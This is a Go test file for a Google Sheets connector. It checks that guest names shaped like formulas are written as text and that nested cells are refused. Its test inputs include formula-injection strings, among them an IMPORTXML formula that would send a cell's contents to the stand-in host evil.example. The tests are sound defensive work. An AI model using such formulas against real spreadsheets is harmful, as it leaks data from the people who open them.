package sheets_test

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/bellhop/bellhop/connectors/sheets/sheetsfake"
	"github.com/bellhop/bellhop/plugins"
)

// A guest's name that Sheets would read as a formula arrives as text, while
// numbers stay numbers: the fake stores what the valueInputOption the
// connector chose makes of each value, so a return to USER_ENTERED fails
// here.
func TestDeliverWritesGuestTextAsText(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/","click")`,
		`=IMPORTXML("http://evil.example/?"&A1,"//a")`,
		"+1",
		"@SUM(A1)",
		"-2+3",
		"\t=1+2",
		"\r=1+2",
		"'quoted",
		"12.50",
		"2026-05-12",
		"TRUE",
	}
	fake := sheetsfake.New(t)
	c := newConnector()
	for _, name := range hostile {
		in, _ := json.Marshal(map[string]any{"header": []string{"Guest", "Nights", "Paid"}, "rows": [][]any{{name, 4, true}}})
		if res, _ := c.Deliver(context.Background(), config(fake), in); res.Outcome != plugins.Delivered {
			t.Fatalf("deliver %q = %+v", name, res)
		}
	}
	cells := fake.Cells("Bookings")[1:] // under the header
	if len(cells) != len(hostile) {
		t.Fatalf("tab has %d rows under the header, want %d", len(cells), len(hostile))
	}
	for i, name := range hostile {
		want := []sheetsfake.Cell{{Kind: sheetsfake.Text, Value: name}, {Kind: sheetsfake.Number, Value: 4.0}, {Kind: sheetsfake.Bool, Value: true}}
		for j, w := range want {
			if got := cells[i][j]; got != w {
				t.Errorf("row %q column %d stored as %+v, want %+v", name, j+1, got, w)
			}
		}
	}
}

// A cell Sheets cannot hold fails its own delivery before it joins a batch,
// rather than making Google refuse an append shared with other deliveries.
func TestDeliverRefusesNestedCells(t *testing.T) {
	fake := sheetsfake.New(t)
	for _, in := range []string{
		`{"rows":[["evt_1",{"amount":1}]]}`,
		`{"rows":[["evt_1",["a","b"]]]}`,
		`{"header":[{"x":1}],"rows":[["evt_1"]]}`,
	} {
		res, _ := newConnector().Deliver(context.Background(), config(fake), json.RawMessage(in))
		if res.Outcome != plugins.Failed {
			t.Errorf("deliver %s = %+v, want failed", in, res)
		}
	}
	if got := fake.Appends(); got != 0 {
		t.Errorf("%d appends reached the fake, want none", got)
	}
}
